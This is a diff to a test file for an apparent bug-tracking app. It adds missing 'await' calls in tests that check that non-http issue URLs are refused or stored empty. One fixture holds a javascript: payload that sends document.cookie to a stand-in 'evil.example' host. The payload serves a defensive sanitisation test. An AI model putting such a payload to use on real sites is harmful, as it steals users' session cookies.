@@ -25,7 +25,7 @@ describe('URLs from users', () => {
     fake = startFakeGit()
     t = createTestApp({ env: { GLITCHBOX_PROVIDER_URL_GITHUB: fake.url, GLITCHBOX_ALLOW_PRIVATE_TARGETS: 'true' } })
     owner = await createUser(t, { plan: 'studio' })
-    project = createProject(t, owner)
+    project = await createProject(t, owner)
   })
   afterEach(() => {
     fake.stop()
@@ -72,7 +72,7 @@ describe('URLs from users', () => {
 
   it('POST /bugs/{number}/issue refuses an issue_url that is not http(s) and links nothing', async () => {
     expect((await t.request('POST', `${base()}/git`, { token: owner.token, body: { provider: 'github', repo_url: 'https://github.com/acme/game', access_token: 'gh-good-token' } })).status).toBe(201)
-    const report = createReportIn(t, project)
+    const report = await createReportIn(t, project)
     for (const url of HOSTILE) {
       const res = await t.request('POST', `${base()}/bugs/${report.reportNumber}/issue`, { token: owner.token, body: { issue_number: 7, issue_url: url, issue_title: 'Crash' } })
       expect(res.status, url).toBe(400)
@@ -95,7 +95,7 @@ describe('links answered by a repository host', () => {
     fake.state.issueUrl = 'javascript:fetch("//evil.example/"+document.cookie)'
     t = createTestApp({ env: { GLITCHBOX_PROVIDER_URL_GITHUB: fake.url, GLITCHBOX_ALLOW_PRIVATE_TARGETS: 'true' } })
     owner = await createUser(t)
-    project = createProject(t, owner)
+    project = await createProject(t, owner)
   })
   afterEach(() => {
     fake.stop()
@@ -109,10 +109,10 @@ describe('links answered by a repository host', () => {
     const base = `/api/projects/${project.slug}`
     const connected = await t.request('POST', `${base}/git`, { token: owner.token, body: { ...body, repo_url: body.repo_url.replace('SELF', fake.url) } })
     expect(connected.status).toBe(201)
-    const filed = await t.request('POST', `${base}/bugs/${createReportIn(t, project).reportNumber}/issue`, { token: owner.token })
+    const filed = await t.request('POST', `${base}/bugs/${(await createReportIn(t, project)).reportNumber}/issue`, { token: owner.token })
     expect(filed.status).toBe(201)
     expect(filed.body.data).toMatchObject({ issue_number: 42, issue_url: '' })
-    const linked = await t.request('POST', `${base}/bugs/${createReportIn(t, project).reportNumber}/issue`, { token: owner.token, body: { issue_number: 9 } })
+    const linked = await t.request('POST', `${base}/bugs/${(await createReportIn(t, project)).reportNumber}/issue`, { token: owner.token, body: { issue_number: 9 } })
     expect(linked.body.data).toMatchObject({ issue_number: 9, issue_url: '' })
     const found = await t.request('GET', `${base}/git/issues?q=boot`, { token: owner.token })
     expect(found.status).toBe(200)
@@ -136,7 +136,7 @@ describe('links answered by an issue tracker', () => {
   it('stores the issue without its javascript: URL', async () => {
     bed.fake.answer = linear
     const id = await connect(bed, 'linear', { secret: KEY, config: { team_id: TEAM } })
-    const report = createReportIn(bed.t, bed.project)
+    const report = await createReportIn(bed.t, bed.project)
     const res = await bed.t.request('POST', `/api/projects/${bed.project.slug}/bugs/${report.reportNumber}/issues`, { token: bed.owner.token, body: { integration_id: id } })
     expect(res.status).toBe(201)
     expect(res.body.data).toMatchObject({ external_id: 'GAME-1', url: '' })
